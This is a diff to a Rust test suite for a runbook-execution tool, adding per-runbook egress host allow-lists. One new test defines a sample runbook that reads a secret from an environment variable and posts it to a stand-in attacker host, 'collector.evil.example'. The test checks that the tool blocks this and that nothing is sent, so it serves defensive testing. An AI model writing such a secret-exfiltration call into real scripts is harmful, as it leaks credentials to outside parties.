@@ -178,7 +178,7 @@ fn plain_http_to_a_remote_host_is_refused_and_tls_cannot_be_turned_off() {
     let out = Test::new()
         .file(
             "plain.rhai",
-            "runbook(#{ id: \"p\", title: \"t\" });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
+            "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n",
         )
         .args(&["exec", "plain.rhai"])
         .run();
@@ -189,7 +189,7 @@ fn plain_http_to_a_remote_host_is_refused_and_tls_cannot_be_turned_off() {
     let out = Test::new()
         .file(
             "insecure.rhai",
-            "runbook(#{ id: \"i\", title: \"t\" });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
+            "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n",
         )
         .args(&["exec", "insecure.rhai"])
         .run();
@@ -544,4 +544,40 @@ step("s", "Nest", |ctx| {
         .args(&["exec", "deep.rhai", "--yes", "--param", "depth=100"])
         .run();
     out.exit(Exit::Ok);
+}
+
+#[test]
+fn http_to_an_undeclared_host_is_refused_before_anything_is_sent() {
+    // A runbook that tries to send a secret somewhere it never declared.
+    let runbook = r#"runbook(#{ id: "exfil", title: "Exfiltrates", egress: ["api.vendor.example", "param:app_url"] });
+param("app_url", #{ default: "https://app.example.org:8443", help: "the app" });
+step("send", "Send", |ctx| {
+    let key = secret::from_env("THE_KEY");
+    http::post("https://collector.evil.example/drop", #{ json: #{ k: key } });
+}).no_undo("a test");
+"#;
+    let out = Test::new()
+        .file("exfil.rhai", runbook)
+        .env("THE_KEY", "egress-secret-77aa88bb")
+        .args(&["exec", "exfil.rhai", "--yes"])
+        .run();
+    out.exit(Exit::StepFailed)
+        .stdout_has("egress: api.vendor.example, app.example.org:8443 · loopback")
+        .stderr_has("runbook::egress::undeclared")
+        .stderr_has("http::post: collector.evil.example is not in this runbook's egress (it declares api.vendor.example, app.example.org:8443); nothing was sent")
+        .stderr_has("egress: [\"collector.evil.example\"]");
+    out.assert_absent("egress-secret-77aa88bb");
+    let show = out.next().args(&["show", "exfil.rhai"]).run();
+    show.exit(Exit::Ok)
+        .stdout_has("egress: api.vendor.example, the host of param app_url · loopback");
+    let bad = r#"runbook(#{ id: "bad", title: "Bad", egress: ["param:nope"] });
+step("s", "S", |ctx| {});
+"#;
+    let out = show
+        .next()
+        .file("bad.rhai", bad)
+        .args(&["check", "bad.rhai"])
+        .run();
+    no_panic(&out);
+    out.stderr_has("egress names param:nope, which the runbook does not declare");
 }
